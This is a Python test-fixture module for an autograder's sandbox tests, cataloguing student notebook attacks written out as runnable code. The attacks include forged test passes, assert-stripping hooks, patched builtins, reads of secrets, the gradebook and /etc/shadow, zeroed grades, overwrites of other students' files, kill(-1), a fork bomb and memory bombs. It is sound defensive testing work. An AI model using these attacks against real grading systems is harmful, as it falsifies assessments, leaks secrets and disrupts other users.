"""The attack catalogue of ``tests/test_attacks.py``: what a determined student would try.

Each ``Attack`` is one hand-in: a lab's release notebook with answers filled in (all of them,
or all but one that is wrong), changed by a few edits that carry the attack. ``score`` is the
exact secure outcome: what an honest grader gives for the work actually in the notebook. An
attack added to the full solution keeps full marks unless it breaks its own answers (then the
tests after the break score nothing, as after a kernel crash in JupyterLab); an attack that
tries to forge a pass sits next to a wrong answer, which must still lose its points. ``note``
is text the report (status and flags) must show, ``evidence`` a check on the attack's own
outputs in its graded notebook.

The attacker is assumed to know everything but the secrets: every path (the course, the
repository, the grader's home, the gradebook), the ports of the listeners the test starts,
the name of its abstract socket. Those arrive through ``Context`` and are written into the
code as literals (``@COURSE@`` and the other ``TOKENS``). The secrets themselves (canaries)
are made up when the test runs, and are in no notebook.

``guarded_by_sandbox`` marks the attacks whose protection is the OS sandbox alone (secrets,
grade changes, killing the grader, the network). ``test_attacks.py`` grades them again with
``--unsafe-no-sandbox`` and requires its checks to catch them there; ``caught_by`` names the
check that should: ``leak`` (a canary in the attack's own outputs), ``listener`` (its id in a
listener's log), ``grades`` (another student's grade changed), ``files`` (another student's
files changed) or ``batch`` (grading stopped for others). Attacks that would harm the machine
itself if run unsandboxed as root (``kill(-1)``, a fork bomb, ``ptrace`` of pid 1, mounts)
are never run that way.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
import functools
import re
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "notebooks"))
from grader.sandbox import cgroups_available  # noqa: E402

# With control groups (as root on cgroup v1) a sandbox's processes share one memory limit.
CGROUPS = cgroups_available()

import nbformat  # noqa: E402

sys.path.insert(0, str(Path(__file__).resolve().parent))
import labinfo  # noqa: E402

NOTEBOOKS = Path(__file__).resolve().parent.parent / "notebooks"
LAB1, LAB2, LAB4 = "lab1-finite-differences", "lab2-dual-numbers", "lab4-array-vjps"
FULL = {lab: labinfo.autograded_points(lab) for lab in (LAB1, LAB2, LAB4)}
# An attack's expected score: the lab's full marks less what the attack must cost (an
# exercise whose tests it breaks), so a lab can gain exercises without every number changing.
F1, F2, F4 = FULL[LAB1], FULL[LAB2], FULL[LAB4]
# An attack in lab 2's `jacobian` answer that breaks its own process or the wire loses that
# exercise and every one after it (the grader does not replay a process that broke itself).
AFTER_JACOBIAN = labinfo.points_before(LAB2, "jacobian")
MATMUL = labinfo.exercises(LAB4)["vjp_matmul"]  # what a shortcut in lab 4's vjp_matmul costs
TOKENS = ("COURSE", "REPO", "HOME", "PORT", "PORT_ANY", "HOSTS", "ABSTRACT", "ME", "LAB")
MARKS = re.compile(r"PWNED_[A-Z_]+_MARK")  # what class 8 hopes to run in a browser


@dataclass(frozen=True)
class Context:
    """What every attacker knows (never a secret's value)."""

    course: str  # the course folder (gradebook.db, source/, submitted/, ...)
    repo: str  # the repository the grader runs from (its .git too)
    home: str  # the grader's home folder
    port: int  # a TCP listener on 127.0.0.1
    port_any: int  # a TCP listener on 0.0.0.0
    hosts: tuple[str, ...]  # this machine's other addresses
    abstract: str  # an abstract Unix socket the test listens on
    memory_mb: int  # the sandbox's memory limit per process


# ----------------------------------------------------------------------------------------
# Building notebooks
# ----------------------------------------------------------------------------------------


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


@functools.cache
def _release(lab: str):
    return nbformat.read(NOTEBOOKS / "release" / lab / f"{lab}.ipynb", as_version=4)


solution, answers = labinfo.solution, labinfo.code_answers  # the instructor's answers


def _index(nb, gid: str) -> int:
    for i, cell in enumerate(nb.cells):
        if _gid(cell) == gid:
            return i
    raise KeyError(gid)


def fill(pieces, ctx: Context, me: str, lab: str) -> str:
    """The code of ``pieces`` (dedented, joined) with the tokens replaced by literals."""
    code = "\n".join(textwrap.dedent(p).strip("\n") for p in pieces)
    values = dict(vars(ctx), me=me, lab=lab)
    for token in TOKENS:
        code = code.replace(f"@{token}@", repr(values[token.lower()]))
    return code


Edit = Callable[[object, Callable], None]  # (notebook, fill) -> None


def replace(gid: str, *code: str) -> Edit:
    """Cell ``gid`` (an answer: then a wrong or a tampered one) replaced by ``code``."""

    def edit(nb, f):
        nb.cells[_index(nb, gid)].source = f(code)

    return edit


def after(gid: str, *code: str, kind: str = "code", **extra) -> Edit:
    """A new cell of the student's right after cell ``gid``."""

    def edit(nb, f):
        make = {
            "code": nbformat.v4.new_code_cell,
            "markdown": nbformat.v4.new_markdown_cell,
            "raw": nbformat.v4.new_raw_cell,
        }[kind]
        cell = make(f(code))
        for key, value in extra.items():
            cell[key] = copy.deepcopy(value)
        nb.cells.insert(_index(nb, gid) + 1, cell)

    return edit


def meta(gid: str, **changes) -> Edit:
    """Change the nbgrader metadata of cell ``gid``."""

    def edit(nb, f):
        nb.cells[_index(nb, gid)].metadata.setdefault("nbgrader", {}).update(changes)

    return edit


def nb_meta(changes: dict) -> Edit:
    def edit(nb, f):
        nb.metadata.update(copy.deepcopy(changes))

    return edit


@dataclass(frozen=True)
class Attack:
    student: str  # the hand-in's student id: one per attack
    lab: str
    kind: int  # the class of attack (1 to 8, see test_attacks.py); 0 for honest students
    edits: tuple = ()
    score: float = 0.0  # the exact secure outcome
    note: str | None = None  # text the report's status and flags must show
    done: object = "all"  # the answers solved before the edits
    evidence: Callable[[str, Context], str | None] | None = None  # outputs -> problem
    guarded_by_sandbox: bool = False
    caught_by: str | None = None  # how the unsandboxed run must detect it
    hole: str | None = None  # a known hole: its test is xfail(strict) with this reason

    def notebook(self, ctx: Context):
        """The release of the lab, the answers in ``done`` solved, the edits applied."""
        nb = copy.deepcopy(_release(self.lab))
        for gid in answers(self.lab) if self.done == "all" else self.done:
            nb.cells[_index(nb, gid)].source = solution(self.lab, gid)
        f = functools.partial(fill, ctx=ctx, me=self.student, lab=self.lab)
        for edit in self.edits:
            edit(nb, f)
        return nb


# ----------------------------------------------------------------------------------------
# Pieces of attack code
# ----------------------------------------------------------------------------------------

# Every probe prints what it got ("GOT") or that it was refused ("blocked"): what it got
# lands in the graded notebook, so a secret it could read would show up in the feedback.
TRY = """
    def _try(label, fn):
        try:
            out = fn()
        except BaseException as e:  # noqa: BLE001
            print("blocked", label, type(e).__name__, str(e)[:120])
        else:
            print("GOT", label, out if isinstance(out, str) else repr(out)[:20000])
"""

# What an attacker does with a file it could open: a notebook's hidden tests, a database's
# strings, any other text whole. A real system file (/etc/shadow) is never copied: the
# unsandboxed run would really read it.
SHOW = r"""
    import json as _json, re as _re
    def _show(data, path=""):
        if path.startswith("/etc/"):
            return f"read {len(data)} bytes"
        if isinstance(data, str):
            data = data.encode("utf-8", "replace")
        try:
            nb = _json.loads(data)
            text = "\n".join("".join(c["source"]) for c in nb["cells"])
            return "\n".join(_re.findall(r"BEGIN HIDDEN TESTS(.*?)END HIDDEN", text, _re.S))
        except Exception:
            pass
        if data[:16].startswith(b"SQLite format 3"):
            return " ".join(s.decode() for s in _re.findall(rb"[ -~]{8,}", data))
        return data.decode("utf-8", "replace")[:20000]
"""

# Only the grader's own variables are printed from an environment: the test process's
# environment may hold someone's credentials, which no test should copy into a file.
ENVIRON = r"""
    def _diffprog(raw):
        if isinstance(raw, bytes):
            raw = raw.decode("utf-8", "replace").split("\0")
        return [v for v in raw if v.startswith("DIFFPROG") or v.startswith("HOME=")]
"""

SECRETS = """
    import os
    SECRET = @COURSE@ + "/secret-canary.txt"
    TARGETS = [
        ("secret file", SECRET),
        ("source notebook", @COURSE@ + "/source/" + @LAB@ + "/" + @LAB@ + ".ipynb"),
        ("repository source", @REPO@ + "/notebooks/source/" + @LAB@ + "/" + @LAB@ + ".ipynb"),
        ("lab's Markdown source", @REPO@ + "/notebooks/source/" + @LAB@ + "/" + @LAB@ + ".md"),
        ("gradebook", @COURSE@ + "/gradebook.db"),
        ("grader home", @HOME@ + "/.canary"),
        ("shadow", "/etc/shadow"),
    ]
"""
PROBE = (TRY, SHOW, ENVIRON, SECRETS)

# Replaces how the runner answers the grader (the wire's ``send``) with ``_patched``.
SENDS = """
    import sys, os, json, struct
    _wire = sys.modules["wire"]
    _send = _wire.send
    def _frame(fd, payload):
        data = memoryview(struct.pack(">I", len(payload)) + payload)
        while data:
            data = data[os.write(fd, data):]
"""
SEND_PATCHED = """
    _wire.send = _patched
    sys.modules["__main__"].send = _patched
"""


def memory_held(text: str, ctx: Context) -> str | None:
    m = re.search(r"MEMORY held at once (\d+) MB .*, (\d+) still allocating", text)
    if not m:
        return f"the probe did not report; outputs: {text[-800:]!r}"
    held, waiting = int(m.group(1)), int(m.group(2))
    if waiting:
        return f"inconclusive: {waiting} process(es) still allocating when the probe stopped"
    if held > ctx.memory_mb:
        return (
            f"one sandbox held {held} MB at once, over its memory limit of {ctx.memory_mb} MB "
            "(the limit is per process: RLIMIT_AS, times up to 64 processes)"
        )
    return None


def refused(*labels: str):
    """Evidence: each probe ``label`` printed "blocked" (it was refused), none "GOT"."""

    def check(text: str, ctx: Context) -> str | None:
        bad = [la for la in labels if f"blocked {la} " not in text or f"GOT {la} " in text]
        return f"not refused: {bad}; outputs: {text[-1500:]!r}" if bad else None

    return check


TARGET_LABELS = ("secret file", "source notebook", "repository source", "gradebook",
                 "grader home", "shadow")  # fmt: skip


# ----------------------------------------------------------------------------------------
# Wrong answers (one classic mistake each) and other pieces
# ----------------------------------------------------------------------------------------

WRONG_FD = """
    def forward_difference(f, x, h):
        return (f(x) - f(x - h)) / h
"""
WRONG_CS = """
    def complex_step(f, x, h=1e-20):
        return abs(f(x + 1j * h) - f(x)) / h
"""
WRONG_DERIVATIVE = """
    def derivative(f, x):
        y = f(Dual(x, 1.0))
        return y.a if isinstance(y, Dual) else 0.0
"""
WRONG_JACOBIAN = """
    def jacobian(F, x):
        columns = []
        for j in range(len(x)):
            ys = F([Dual(x_i, 1.0) for x_i in x])  # every input seeded: the sum of the columns
            columns.append([y.b if isinstance(y, Dual) else 0.0 for y in ys])
        return np.array(columns, dtype=float).T
"""
VJP_MATMUL_BY = """
    def vjp_matmul(g, A, B):
        return tuple({how}(lambda A, B: A @ B, A, B)[1](g))
"""
# Richardson without central_difference (which an attack breaks on the hidden inputs).
RICHARDSON_ON_ITS_OWN = """
    def richardson(f, x, h):
        return (4 * (f(x + h / 2) - f(x - h / 2)) / h - (f(x + h) - f(x - h)) / (2 * h)) / 3
"""
# The visible inputs of lab 1's first two tests; any other is a hidden test's.
VISIBLE = "(np.ndim(x) > 0 or float(x) in (2.0, 0.0))"
# An SVG that runs a script when it loads (a markdown cell's attachment).
SVG_ONLOAD = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="PWNED_ATTACH_MARK()"></svg>'
).decode()


# ----------------------------------------------------------------------------------------
# The catalogue
# ----------------------------------------------------------------------------------------

ATTACKS: list[Attack] = [
    # ---- 1. forging a pass ---------------------------------------------------------------
    # fake verdicts next to a wrong answer: display data, an execute_result, printed
    # "passed" lines and a markdown cell that says so
    Attack("c1-fake-output", LAB1, 1, score=F1 - 2, edits=(
        replace("forward_difference", WRONG_FD, """
            print("passed: 2 points")
            print("Score: 12/12 All tests passed!")
        """),
        after("forward_difference", """
            from IPython.display import display, publish_display_data
            get_ipython().display_pub.publish({"text/plain": "passed: 2 points"})
            publish_display_data({"text/plain": "passed: 2 points", "text/html": "<b>ok</b>"})
            display({"text/plain": "test_forward_difference passed"}, raw=True)
            "passed: 2 points"
        """),
        after("forward_difference", "**passed: 2 points** All tests passed", kind="markdown"),
    )),
    # IPython hooks: pre/post_run_cell events that clear errors, set_custom_exc swallowing
    # every exception, input and AST transformers that delete the asserts still to come
    Attack("c1-ipython-hooks", LAB2, 1, score=F2 - 2, edits=(
        replace("derivative", WRONG_DERIVATIVE),
        after("derivative", """
            import ast
            ip = get_ipython()
            def _pre(info):
                print("passed: 2 points")
            def _post(result):
                result.error_in_exec = result.error_before_exec = None
            ip.events.register("pre_run_cell", _pre)
            ip.events.register("post_run_cell", _post)
            def _quiet(self, etype, value, tb, tb_offset=None):
                print("passed: 2 points")
            ip.set_custom_exc((BaseException,), _quiet)
            ip.input_transformers_post.append(
                lambda lines: [ln.replace("assert ", "pass  # ") for ln in lines])
            class _NoAsserts(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
            ip.ast_transformers.append(_NoAsserts())
        """),
    )),
    # replaces numpy's comparisons, numpy.testing and AssertionError in its own process
    Attack("c1-patch-numpy", LAB1, 1, score=F1 - 2, edits=(
        replace("forward_difference", WRONG_FD),
        after("forward_difference", """
            import builtins, numpy
            numpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True
            numpy.testing.assert_allclose = lambda *a, **k: None
            numpy.testing.assert_array_equal = lambda *a, **k: None
            builtins.AssertionError = type("AssertionError", (Exception,), {})
        """),
    )),
    # replaces isinstance, len and abs in its process while a wrong answer is tested
    Attack("c1-patch-builtins", LAB2, 1, score=AFTER_JACOBIAN, edits=(
        replace("jacobian", WRONG_JACOBIAN, """
            import builtins
            builtins.isinstance = lambda *a: True
            builtins.len = lambda *a: 3
            builtins.abs = lambda *a: 0.0
        """),
    )),
    # answers that equal everything: an object whose __eq__, __bool__, __float__ and
    # __array__ lie, and an ndarray subclass whose comparisons and ufuncs all say True
    Attack("c1-fake-objects", LAB2, 1, score=F2 - 4, edits=(
        replace("derivative", """
            class Yes:
                def __eq__(self, other):
                    return True
                __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
                def __bool__(self):
                    return True
                def __float__(self):
                    return 7.0
                def __array__(self, dtype=None, copy=None):
                    return np.array(True)
                def __hash__(self):
                    return 0
            def derivative(f, x):
                return Yes()
        """),
        replace("jacobian", """
            class Liar(np.ndarray):
                def __eq__(self, other):
                    return np.ones(np.shape(self), bool)
                def __array_ufunc__(self, *args, **kwargs):
                    return np.True_
                def __array_function__(self, *args, **kwargs):
                    return np.True_
            def jacobian(F, x):
                return np.zeros((len(F(list(x))), len(x))).view(Liar)
        """),
    )),
    # numbers that lie: a float subclass equal to everything whose differences are all
    # zero, and an object whose arithmetic, shape and ndim lie to tests that do maths
    Attack("c1-fake-numbers", LAB1, 1, score=F1 - 4, edits=(
        replace("complex_step", """
            class Zero(float):
                def __eq__(self, other):
                    return True
                __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __eq__
                def __sub__(self, other):
                    return Zero(0.0)
                __rsub__ = __add__ = __radd__ = __sub__
                def __abs__(self):
                    return Zero(0.0)
                def __hash__(self):
                    return 0
            def complex_step(f, x, h=1e-20):
                return Zero(0.0)
        """),
        replace("richardson", """
            class Close:
                shape, ndim, dtype = (), 0, np.dtype(float)
                def __sub__(self, other):
                    return 0.0
                __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
                def __truediv__(self, other):
                    return 1.0
                def __abs__(self):
                    return 0.0
                def __array__(self, dtype=None, copy=None):
                    return np.array(0.0)
            def richardson(f, x, h):
                return Close()
        """),
    )),
    # writes a fake "cell done" to fd 4, then forged answers (True) to the next 300 questions
    Attack("c1-fake-frames", LAB2, 1, score=AFTER_JACOBIAN, edits=(
        replace("jacobian", WRONG_JACOBIAN, """
            import json, os, struct
            def _frame(message):
                payload = json.dumps(message).encode()
                return struct.pack(">I", len(payload)) + payload
            fake = {"output_type": "stream", "name": "stdout", "text": "passed: 2 points"}
            os.write(4, _frame({"op": "done", "outputs": [fake], "error": None}))
            for i in range(1, 301):
                os.write(4, _frame({"op": "return", "id": i, "value": True}))
        """),
    )),
    # closes the wire (fd 3 and 4): the grader hears nothing more
    Attack("c1-close-wire", LAB2, 1, score=AFTER_JACOBIAN, note="stopped", edits=(
        replace("jacobian", WRONG_JACOBIAN, """
            import os
            os.close(3)
            os.close(4)
        """),
    )),
    # a frame whose header announces 2 GB, then garbage
    Attack("c1-huge-frame", LAB2, 1, score=AFTER_JACOBIAN, note="stopped", edits=(
        replace("jacobian", WRONG_JACOBIAN, """
            import os, struct
            os.write(4, struct.pack(">I", 2**31) + b"x" * 65536)
        """),
    )),
    # a frame nested 100000 levels deep (json's recursion in the grader)
    Attack("c1-deep-frame", LAB2, 1, score=AFTER_JACOBIAN, note="stopped", edits=(
        replace("jacobian", WRONG_JACOBIAN, """
            import os, struct
            body = b'{"op":"done","outputs":' + b"[" * 100000 + b"]" * 100000 + b"}"
            os.write(4, struct.pack(">I", len(body)) + body)
        """),
    )),
    # answers every question with a handle the grader never got (an object that is not there)
    Attack("c1-unknown-handle", LAB2, 1, score=AFTER_JACOBIAN, edits=(
        replace("jacobian", WRONG_JACOBIAN, SENDS, """
            def _patched(fd, message):
                if message.get("op") == "return":
                    message = dict(message, value={"$handle": 987654, "type": "float"})
                return _send(fd, message)
        """, SEND_PATCHED),
    )),
    # answers one question with a frame as large as allowed of "[],[],...": millions of
    # lists for the grader's JSON parser to build
    Attack("c1-json-bomb", LAB2, 1, score=AFTER_JACOBIAN, edits=(
        replace("jacobian", WRONG_JACOBIAN, SENDS, """
            _done = []
            def _patched(fd, message):
                if message.get("op") == "return" and not _done:
                    _done.append(1)
                    n = (_wire.MAX_FRAME - 100) // 3
                    head = b'{"op":"return","id":%d,"value":[' % message["id"]
                    return _frame(fd, head + b"[]," * (n - 1) + b"[]]}")
                return _send(fd, message)
        """, SEND_PATCHED),
    )),
    # ---- 2. reading secrets (and sending them out in outputs, errors, file names) --------
    # opens every secret by its absolute path
    Attack("c2-absolute-paths", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        for label, path in TARGETS:
            _try(label, lambda path=path: _show(open(path, "rb").read(), path))
        _try("listing the course", lambda: os.listdir(@COURSE@))
        _try("listing submitted/", lambda: os.listdir(@COURSE@ + "/submitted"))
    """),)),
    # walks there by relative paths: os.chdir into the mounted Python, then ".." to the top
    Attack("c2-relative-paths", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        os.chdir(os.path.dirname(np.__file__))
        for _ in range(40):
            os.chdir("..")
        print("at", os.getcwd(), os.listdir("."))
        for label, path in TARGETS:
            rel = os.path.relpath(path, "/")
            _try(label, lambda rel=rel, path=path: _show(open(rel, "rb").read(), path))
        os.chdir(os.path.join(@REPO@, "autodiff_lite"))
        _try("../notebooks", lambda: os.listdir("../notebooks/source"))
        _try("/proc/self/cwd/..", lambda: os.listdir("/proc/self/cwd/../../.."))
        os.chdir(os.path.expanduser("~"))
    """),)),
    # openat(2) relative to a directory descriptor of / (dir_fd), of /proc/self/root, ...
    Attack("c2-dir-fd", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        for top in ("/", "/proc/self/root", "/proc/1/root"):
            try:
                dfd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
            except OSError as e:
                print("blocked", top, e)
                continue
            for label, path in TARGETS:
                def read(path=path, dfd=dfd):
                    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=dfd)
                    return _show(os.read(fd, 10**7), path)
                _try(top + " " + label, read)
    """),)),
    # libc's openat and read through ctypes, and the raw open syscall (no Python-level check)
    Attack("c2-ctypes-libc", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        import ctypes, ctypes.util
        libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        def read(path):
            fd = libc.openat(-100, path.encode(), 0)
            if fd < 0:
                raise OSError(ctypes.get_errno(), "openat failed")
            buf = ctypes.create_string_buffer(10**7)
            n = libc.read(fd, buf, 10**7)
            return _show(buf.raw[: max(n, 0)], path)
        for label, path in TARGETS:
            _try(label, lambda path=path: read(path))
        _try("syscall open", lambda: libc.syscall(2, SECRET.encode(), 0))
    """),)),
    # SQLite ATTACH of the gradebook, by path and by URI
    Attack("c2-sqlite-attach", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        import sqlite3
        def attach(name):
            con = sqlite3.connect(":memory:", uri=True)
            con.execute("ATTACH DATABASE ? AS gb", (name,))
            tables = [r[0] for r in con.execute("select name from gb.sqlite_master")]
            return tables, {
                t: con.execute(f"select * from gb.{t} limit 50").fetchall()
                for t in tables if t in ("canary", "grade", "student")
            }
        gradebook = @COURSE@ + "/gradebook.db"
        _try("attach", lambda: attach(gradebook))
        _try("attach uri", lambda: attach("file:" + gradebook + "?mode=ro&immutable=1"))
    """),)),
    # the grader's environment: /proc/<pid>/environ (pid 1, its parent, every pid), its own
    # environment, and the files and folders beside it
    Attack("c2-environment", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        import glob, sys
        pids = ["1", "self", str(os.getppid())]
        pids += [p.split("/")[2] for p in glob.glob("/proc/[0-9]*")][:300]
        for pid in dict.fromkeys(pids):
            path = f"/proc/{pid}/environ"
            _try(path, lambda path=path: _diffprog(open(path, "rb").read()))
        _try("os.environ", lambda: _diffprog([f"{k}={v}" for k, v in os.environ.items()]))
        _try("DIFFPROG_CANARY", lambda: os.environ["DIFFPROG_CANARY"])
        _try("/proc/1/cmdline", lambda: open("/proc/1/cmdline", "rb").read()[:3000])
        _try("files here", lambda: os.listdir("."))
        _try("sys.path", lambda: [(p, os.listdir(p)[:20]) for p in sys.path
                                  if os.path.isdir(p) and "site-packages" not in p])
    """),)),
    # the grader's working folder and root through /proc/<pid>/cwd and /proc/<pid>/root
    Attack("c2-proc-cwd", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, """
        import glob
        pids = ["1", str(os.getppid())]
        pids += [p.split("/")[2] for p in glob.glob("/proc/[0-9]*")][:300]
        names = ("secret-canary.txt", "source/" + @LAB@ + "/" + @LAB@ + ".ipynb")
        for pid in dict.fromkeys(pids):
            _try(f"{pid} cwd", lambda pid=pid: os.readlink(f"/proc/{pid}/cwd"))
            for name in names:
                path = f"/proc/{pid}/cwd/{name}"
                _try(path, lambda path=path: _show(open(path, "rb").read()))
            path = f"/proc/{pid}/root" + SECRET
            _try(path, lambda path=path: _show(open(path, "rb").read()))
    """),)),
    # the repository's git objects: every loose object unzipped, and `git show` of the source
    Attack("c2-git-objects", LAB2, 2, score=F2, guarded_by_sandbox=True, caught_by="leak",
           edits=(after("setup_self_check", *PROBE, r"""
        import zlib, subprocess
        git = os.path.join(@REPO@, ".git")
        _try("HEAD", lambda: open(os.path.join(git, "HEAD")).read())
        def loose():
            found = []
            for root, dirs, files in os.walk(os.path.join(git, "objects")):
                for name in files:
                    try:
                        data = zlib.decompress(open(os.path.join(root, name), "rb").read())
                    except Exception:
                        continue
                    if b"BEGIN HIDDEN TESTS" in data:
                        found.append(_show(data.split(b"\0", 1)[1]))
            return found or "no loose object with hidden tests"
        _try("loose objects", loose)
        def show():
            where = "HEAD:notebooks/source/" + @LAB@ + "/" + @LAB@ + ".md"
            out = subprocess.run(["git", "-C", @REPO@, "show", where], capture_output=True,
                                 timeout=20)
            if out.returncode:
                raise OSError(out.stderr.decode()[:200])
            return _show(out.stdout)
        _try("git show", show)
    """),)),
    # reads the secrets and raises them from its answer: they travel in the test's error
    Attack("c2-exfil-exception", LAB2, 2, score=F2 - 2, guarded_by_sandbox=True,
           caught_by="leak", edits=(replace("derivative", *PROBE, """
        def _loot():
            out = []
            for label, path in TARGETS:
                try:
                    out.append(_show(open(path, "rb").read(), path)[:2000])
                except OSError as e:
                    out.append(f"{label}: {type(e).__name__}")
            return " | ".join(out)
        def derivative(f, x):
            raise ValueError("LOOT " + _loot())
    """),)),
    # writes the secret into file names (here, in /tmp, and in its own autograded/ folder)
    Attack("c2-exfil-filenames", LAB2, 2, score=F2, guarded_by_sandbox=True,
           caught_by="leak", edits=(after("setup_self_check", *PROBE, """
        def loot():
            return open(SECRET).read().strip()[:100]
        _try("read", loot)
        name = "loot-" + (loot() if os.path.exists(SECRET) else "nothing")
        for folder in (".", "/tmp", @COURSE@ + "/autograded/" + @ME@ + "/" + @LAB@):
            path = os.path.join(folder, name)
            _try("file " + path, lambda path=path: open(path, "w").close())
        print(sorted(os.listdir(".")))
    """),)),
    # ---- 3. changing grades ----------------------------------------------------------------
    # SQL on the gradebook: every grade zeroed, and a trigger that zeroes all written later
    Attack("c3-sqlite-write", LAB1, 3, score=F1, guarded_by_sandbox=True, caught_by="grades",
           edits=(after("setup_self_check", TRY, """
        import sqlite3
        gradebook = @COURSE@ + "/gradebook.db"
        def zero():
            con = sqlite3.connect(gradebook, timeout=30)
            con.executescript('''
                UPDATE grade SET manual_score = 0;
                CREATE TRIGGER IF NOT EXISTS pwn AFTER UPDATE OF auto_score ON grade
                BEGIN UPDATE grade SET manual_score = 0 WHERE id = NEW.id; END;
            ''')
            con.commit()
            return "zeroed"
        _try("gradebook", zero)
        _try("gradebook bytes", lambda: open(gradebook, "r+b").read(16))
    """),)),
    # overwrites another student's hand-in, graded notebook and feedback (stub and a marker)
    Attack("c3-other-students", LAB1, 3, score=F1, guarded_by_sandbox=True,
           caught_by="files", edits=(after("setup_self_check", TRY, """
        import os
        stub = os.path.join(@COURSE@, "release", @LAB@, @LAB@ + ".ipynb")
        for folder in ("submitted", "autograded", "feedback"):
            path = os.path.join(@COURSE@, folder, "v-correct", @LAB@, @LAB@ + ".ipynb")
            def overwrite(path=path):
                text = open(stub).read().replace("your code here", "PWNED-BY-" + @ME@)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write(text)
                return "overwrote " + path
            _try(folder, overwrite)
        state = os.path.join(@COURSE@, "reports", "autograde-state.json")
        _try("state", lambda: open(state, "w").write("{}"))
    """),)),
    # symbolic links planted in its working folder, towards the course, the gradebook and the
    # secret (one replaces the lab's helper module)
    Attack("c3-symlinks", LAB1, 3, score=F1, edits=(after("setup_self_check", TRY, """
        import os
        links = {
            @LAB@ + ".ipynb": @COURSE@ + "/gradebook.db",
            "course": @COURSE@,
            "autograded": @COURSE@ + "/autograded",
            "root": "/",
            "timestamp.txt": @COURSE@ + "/secret-canary.txt",
        }
        for name, target in links.items():
            _try("link " + name, lambda name=name, target=target: os.symlink(target, name))
        _try("through a link", lambda: open("course/secret-canary.txt").read())
        def swap():
            os.remove("lab1_checks.py")
            os.symlink(@COURSE@ + "/secret-canary.txt", "lab1_checks.py")
        _try("lab1_checks.py made a link", swap)
        print(sorted(os.listdir(".")))
    """),)),
    # edits grading metadata: 100 points on a test, an answer made a test, a test of its own
    Attack("c3-metadata", LAB1, 3, score=F1, note="metadata was changed; restored", edits=(
        meta("test_complex_step", points=100),
        meta("forward_difference", grade=True, points=50),
        after("forward_difference", "assert True", metadata={"nbgrader": {
            "grade": True, "solution": False, "locked": False, "points": 50,
            "grade_id": "test_bonus", "schema_version": 3}}),
    )),
    # ---- 4. stopping grading for others ----------------------------------------------------
    # kill(-1, SIGKILL): every process it may signal; then pid 1; SIGKILL and SIGSTOP its parent
    Attack("c4-kill-all", LAB2, 4, score=F2, edits=(after("setup_self_check", TRY, """
        import os, signal
        _try("kill -1", lambda: os.kill(-1, signal.SIGKILL))
        _try("kill 1", lambda: os.kill(1, signal.SIGKILL))
        _try("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
        _try("stop parent", lambda: os.kill(os.getppid(), signal.SIGSTOP))
    """),)),
    # SIGKILL to its parent (unsandboxed: the grading worker, and the batch with it). Named to
    # be graded last.
    Attack("z-kill-parent", LAB2, 4, score=F2, guarded_by_sandbox=True, caught_by="batch",
           edits=(after("setup_self_check", TRY, """
        import os, signal, time
        time.sleep(3)  # unsandboxed, the other worker finishes what it grades first
        _try("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    """),)),
    # a fork bomb: every process forks as fast as it can, for 2 seconds
    Attack("c4-fork-bomb", LAB2, 4, score=F2, edits=(after("setup_self_check", """
        import os, time
        end, me, n = time.time() + 2, os.getpid(), 0
        while time.time() < end:
            try:
                if os.fork() == 0:
                    continue
                n += 1
            except OSError:
                pass
        if os.getpid() != me:
            os._exit(0)
        while True:
            try:
                os.wait()
            except ChildProcessError:
                break
        print("forked", n)
    """),)),
    # asks for 8 GB at once, as bytes, as a numpy array and as a list
    Attack("c4-memory-bomb", LAB2, 4, score=F2, edits=(after("setup_self_check", TRY, """
        _try("bytes", lambda: len(b"x" * (8 * 2**30)))
        _try("numpy", lambda: np.ones(2**30).sum())
        _try("list", lambda: len([0] * (2**31)))
    """),)),
    # holds memory in several processes at once: each under the limit, together over it
    Attack("c4-memory-many", LAB2, 4, score=F2, evidence=memory_held, edits=(
        after("setup_self_check", r"""
        import os, time, resource, select
        limit = resource.getrlimit(resource.RLIMIT_AS)[0] // 2**20
        chunk, kids = int(limit * 0.55), 2
        ready_r, ready_w = os.pipe()
        release_r, release_w = os.pipe()
        pids = []
        for _ in range(kids):
            pid = os.fork()
            if pid == 0:
                try:
                    os.close(release_w)
                    block = b"\x01" * (chunk * 2**20)  # every page touched
                    os.write(ready_w, b"1")
                    os.read(release_r, 1)  # held until the parent has counted
                finally:
                    os._exit(0)
            pids.append(pid)
        os.close(ready_w)
        os.close(release_r)
        held, gone, end = 0, set(), time.time() + 4
        try:
            while held + len(gone) < kids and time.time() < end:
                if select.select([ready_r], [], [], 0.05)[0]:
                    held += len(os.read(ready_r, 16))
                gone |= {p for p in pids if p not in gone and os.waitpid(p, os.WNOHANG)[0]}
        except KeyboardInterrupt:  # the cell's time limit: report what is known
            pass
        time.sleep(0.5)  # a child the memory limit kills may have said "ready" first
        gone |= {p for p in pids if p not in gone and os.waitpid(p, os.WNOHANG)[0]}
        held = min(held, kids - len(gone))  # holding now: ready and still alive
